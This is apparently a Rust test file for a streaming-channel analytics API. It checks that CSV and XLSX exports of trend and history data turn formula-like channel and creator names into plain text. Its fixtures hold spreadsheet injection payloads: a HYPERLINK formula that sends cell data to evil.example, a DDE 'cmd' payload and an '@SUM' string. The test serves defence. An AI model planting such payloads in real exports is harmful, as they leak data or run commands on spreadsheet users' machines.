//! The API's spreadsheet answers (`format=csv|xlsx` of `/trends` and `/history`): channel and
//! creator names a spreadsheet would run as formulas come out as text (issue 22.7), Korean
//! names intact, creator and URL columns; the workbook is read back by calamine.

use std::io::Cursor;

use axum::body::Body;
use axum::http::{Request, StatusCode};
use calamine::{Data, Reader, Xlsx};
use chrono::Duration;
use streamtide_core::{
    ChannelId, ChannelInfo, ChannelObservation, ChannelStats, LiveState, Platform,
};
use streamtide_storage::{Batch, Job};
use tower::ServiceExt;

use crate::common::{empty, get, Fixture};

const EVIL: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"클릭\")";

/// Ten days of two CHZZK channels with hostile names, one linked to a creator whose name is one
/// too; rollups rebuilt.
async fn fixture() -> Fixture {
    let f = empty().await;
    for d in 0..10i64 {
        let at = f.now - Duration::days(9 - d);
        let found = [
            ("evil", EVIL, 1_000i64, 100i64),
            ("dde", "+cmd|' /C calc'!A0", 900, -10),
        ]
        .iter()
        .map(|(id, name, base, step)| ChannelObservation {
            info: ChannelInfo {
                platform: Platform::Chzzk,
                channel_id: ChannelId::new(*id),
                name: name.to_string(),
                handle: None,
                avatar_url: None,
                description: None,
            },
            stats: ChannelStats {
                followers: Some((base + step * d) as u64),
                total_views: None,
                video_count: None,
            },
            live: LiveState::Offline,
        })
        .collect();
        let round = f
            .store
            .start_round(Platform::Chzzk, Job::Channels, at)
            .await
            .unwrap();
        f.store
            .write_batch(
                round,
                Platform::Chzzk,
                at,
                &Batch::Channels {
                    found,
                    missing: vec![],
                },
            )
            .await
            .unwrap();
    }
    let (c, _) = f
        .store
        .upsert_creator("@SUM(1+1)*cmd", f.now)
        .await
        .unwrap();
    f.store
        .link_channel(Platform::Chzzk, &ChannelId::new("evil"), c)
        .await
        .unwrap();
    f.store.rebuild_rollups().await.unwrap();
    f
}

async fn bytes(f: &Fixture, uri: &str) -> (StatusCode, String, Vec<u8>) {
    let res = f
        .app
        .clone()
        .oneshot(Request::get(uri).body(Body::empty()).unwrap())
        .await
        .unwrap();
    let status = res.status();
    let ct = res
        .headers()
        .get("content-type")
        .map(|v| v.to_str().unwrap().to_string())
        .unwrap_or_default();
    let body = axum::body::to_bytes(res.into_body(), usize::MAX)
        .await
        .unwrap()
        .to_vec();
    (status, ct, body)
}

#[tokio::test]
async fn csv_answers_neutralise_formulas_and_keep_numbers() {
    let f = fixture().await;
    let up = get(&f.app, "/api/v1/trends?format=csv").await;
    assert_eq!(up.status, StatusCode::OK, "{}", up.text);
    let lines: Vec<&str> = up.text.lines().collect();
    assert_eq!(
        lines[0],
        "\u{feff}rank,previous_rank,platform,channel_id,channel_name,start_value,end_value,change,change_pct,rounded,creator_name,channel_url"
    );
    assert_eq!(
        lines[1],
        "1,,chzzk,evil,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"클릭\"\")\",1200,1900,700,58.33,false,'@SUM(1+1)*cmd,https://chzzk.naver.com/evil"
    );
    let down = get(&f.app, "/api/v1/trends?format=csv&direction=down").await;
    let line = down.text.lines().find(|l| l.contains(",dde,")).unwrap();
    // The name is text with a leading '; the loss stays a number.
    assert!(line.contains(",'+cmd|' /C calc'!A0,880,810,-70,"), "{line}");
    // No cell of any answer starts with a formula character.
    for text in [&up.text, &down.text] {
        for cell in text.lines().flat_map(|l| l.split(',')) {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '@']),
                "a formula cell: {cell} in {text}"
            );
        }
    }
}

#[tokio::test]
async fn xlsx_answers_open_in_a_reader_with_text_as_text() {
    let f = fixture().await;
    let (status, ct, body) = bytes(&f, "/api/v1/trends?format=xlsx").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(
        ct,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(body)).unwrap();
    let range = book.worksheet_range("trends").unwrap();
    assert_eq!(range.get((1, 4)), Some(&Data::String(EVIL.into())));
    assert_eq!(range.get((1, 7)), Some(&Data::Float(700.0)));
    assert_eq!(
        range.get((1, 10)),
        Some(&Data::String("@SUM(1+1)*cmd".into()))
    );
    assert!(book
        .worksheet_formula("trends")
        .unwrap()
        .used_cells()
        .all(|(_, _, f)| f.is_empty()));

    let from = (f.now - Duration::days(30)).format("%Y-%m-%dT%H:%M:%SZ");
    let (status, _, body) = bytes(
        &f,
        &format!("/api/v1/channels/chzzk/evil/history?metric=followers&format=xlsx&from={from}"),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(body)).unwrap();
    let range = book.worksheet_range("history").unwrap();
    assert_eq!(range.height(), 11, "header and ten points");
    assert_eq!(range.get((10, 1)), Some(&Data::Float(1900.0)));
    let bad = get(&f.app, "/api/v1/trends?format=pdf").await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
    assert!(bad.text.contains("json, csv or xlsx"), "{}", bad.text);
}
